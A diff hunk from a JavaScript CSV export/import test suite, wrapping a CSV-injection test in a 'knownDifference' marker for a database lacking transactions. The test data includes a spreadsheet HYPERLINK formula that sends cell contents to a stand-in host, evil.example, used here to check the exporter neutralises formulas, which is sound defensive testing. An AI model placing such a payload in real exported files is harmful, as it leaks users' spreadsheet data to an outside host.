@@ -108,7 +108,7 @@ describe('CSV export and import', () => {
     expect(await items()).toEqual(before)
   })
 
-  it('writes no live spreadsheet formula, and the file still imports back exactly (OWASP CSV injection)', async () => {
+  knownDifference(FERRETDB_LACKS.transactions)('writes no live spreadsheet formula, and the file still imports back exactly (OWASP CSV injection)', async () => {
     // Names a spreadsheet would run as formulas, and text the guard must not confuse with its own '.
     const names = [
       '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
